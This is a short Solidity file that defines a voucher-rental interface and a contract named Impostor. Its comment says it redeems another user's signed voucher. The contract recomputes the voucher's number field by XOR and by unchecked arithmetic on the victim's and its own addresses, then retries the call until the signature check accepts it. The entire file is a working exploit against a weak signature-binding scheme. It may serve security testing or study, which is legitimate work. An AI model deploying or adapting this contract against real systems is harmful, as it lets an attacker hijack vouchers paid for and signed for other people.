interface Vouchers {
    function rentWithVoucher(
        uint256 id,
        uint256 time,
        uint256 amount,
        uint256 number,
        uint256 validUntil,
        bytes calldata signature
    ) external payable;
}

/// Redeems the voucher of another one: as it is, or under a number that makes up for the borrower.
contract Impostor {
    function rent(
        Vouchers board,
        address whose,
        uint256[4] calldata terms,
        uint256 validUntil,
        bytes calldata signature
    ) external payable {
        uint256[3] memory numbers = [terms[3], 0, 0];
        (uint256 theirs, uint256 mine) = (uint160(whose), uint160(address(this)));
        unchecked {
            (numbers[1], numbers[2]) = (terms[3] ^ theirs ^ mine, terms[3] + theirs - mine);
        }
        for (uint256 i = 0; i < numbers.length; i++) {
            try board.rentWithVoucher{value: msg.value}(
                terms[0], terms[1], terms[2], numbers[i], validUntil, signature
            ) {
                return;
            } catch {}
        }
        revert("nothing fits");
    }
}
